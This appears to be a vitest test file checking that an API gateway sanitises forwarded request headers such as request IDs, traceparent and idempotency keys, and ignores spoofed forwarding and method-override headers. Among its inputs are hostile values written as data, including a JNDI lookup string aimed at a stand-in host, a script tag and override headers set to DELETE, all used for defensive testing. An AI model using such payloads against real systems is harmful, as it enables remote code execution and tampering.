import { describe, expect, it } from 'vitest';
import { API_KEY } from '../support/gateway.js';
import { sendRaw, type RawAnswer } from '../support/raw-request.js';
import { useSimulatorGateway } from '../support/simulator-gateway.js';

const PATH = '/api/v1/phone-systems';
const UUID = /^[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}$/;
const TRACE = '0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331';

describe('a header field that is passed on', () => {
  const { url, simulator, log } = useSimulatorGateway({ phoneSystems: 1 });

  function send(method: string, fields: string, body = ''): Promise<RawAnswer> {
    const type = body && `Content-Type: application/json\r\nContent-Length: ${body.length}\r\n`;
    const head = `${method} ${PATH} HTTP/1.1\r\nHost: localhost\r\nX-API-Key: ${API_KEY}\r\n${fields}${type}`;
    return sendRaw(url(), Buffer.from(`${head}Connection: close\r\n\r\n${body}`, 'latin1'));
  }

  it.each(['a\x09b', 'a b', '<script>', '"', 'a;b', '${jndi:ldap://evil.example}', '\xe4', 'x'.repeat(129)])(
    'is replaced when it is no request id: %j',
    async (id) => {
      const answer = await send('GET', `X-Request-Id: ${id}\r\n`);
      expect(answer.status).toBe(200);
      expect(answer.headers['x-request-id']).toMatch(UUID);
      expect(simulator().requests[0]?.headers['x-request-id']).toBe(answer.headers['x-request-id']);
      expect(log()).not.toContain('evil.example');
    },
  );

  it('is replaced when there are two request ids', async () => {
    const answer = await send('GET', 'X-Request-Id: a\r\nX-Request-Id: b\r\n');
    expect(answer.headers['x-request-id']).toMatch(UUID);
  });

  it.each([
    `00-${TRACE}`,
    `ff-${TRACE}-01`,
    `00-${TRACE}-01-extra`,
    `00-${TRACE.toUpperCase()}-01`,
    `00-${TRACE}-01, 00-${TRACE}-01`,
    `00-${'0'.repeat(32)}-b7ad6b7169203331-01`,
    `00-${TRACE}-01\x09x`,
    'x'.repeat(8000),
  ])('is left out when it is no traceparent: %j', async (traceparent) => {
    expect((await send('GET', `traceparent: ${traceparent}\r\n`)).status).toBe(200);
    expect(simulator().requests[0]?.headers).not.toHaveProperty('traceparent');
  });

  it('is passed on when it is a traceparent', async () => {
    await send('GET', `traceparent: 00-${TRACE}-01\r\n`);
    expect(simulator().requests[0]?.headers.traceparent).toBe(`00-${TRACE}-01`);
  });

  it.each(['', ' ', 'x'.repeat(256), 'a\x09\x09b\xff'])(
    'is rejected when it is no idempotency key, and nothing goes upstream: %j',
    async (key) => {
      const answer = await send('POST', `Idempotency-Key: ${key}\r\n`, '{"displayName":"Oslo"}');
      expect(answer.status).toBe(400);
      expect(answer.text).toContain('"code":"validation-failed"');
      expect(simulator().requests).toEqual([]);
    },
  );

  it.each([
    'X-API-Key',
    'Idempotency-Key',
    'Prefer',
    'X-Forwarded-For',
    'Cookie',
    'X-Custom',
    'Range',
    'Expect',
  ])('is not %s', async (name) => {
    await send('GET', `${name}: canary-value\r\n`.replace('X-API-Key: canary-value\r\n', ''));
    const [request] = simulator().requests;
    expect(JSON.stringify(request?.headers)).not.toMatch(/canary-value|key-of-the-tests/);
  });
});

describe('a header field that says where a request came from', () => {
  const { url, call } = useSimulatorGateway({ phoneSystems: 1 }, { RATE_LIMIT_PER_MINUTE: '1000' });

  it.each([
    'X-Forwarded-Host',
    'X-Forwarded-Proto',
    'Forwarded',
    'X-Original-URL',
    'X-Rewrite-URL',
    'X-Forwarded-Prefix',
  ])('changes nothing in the answer: %s', async (name) => {
    const { text, status } = await call('GET', PATH);
    const answer = await call('GET', PATH, { headers: { [name]: '/health/live' } });
    expect([answer.status, answer.text]).toEqual([status, text]);
  });

  it.each(['X-HTTP-Method-Override', 'X-HTTP-Method', 'X-Method-Override'])(
    'or what its method is: %s',
    async (name) => {
      const answer = await sendRaw(
        url(),
        `GET ${PATH} HTTP/1.1\r\nHost: localhost\r\nX-API-Key: ${API_KEY}\r\n${name}: DELETE\r\nConnection: close\r\n\r\n`,
      );
      expect(answer.status).toBe(200);
    },
  );
});
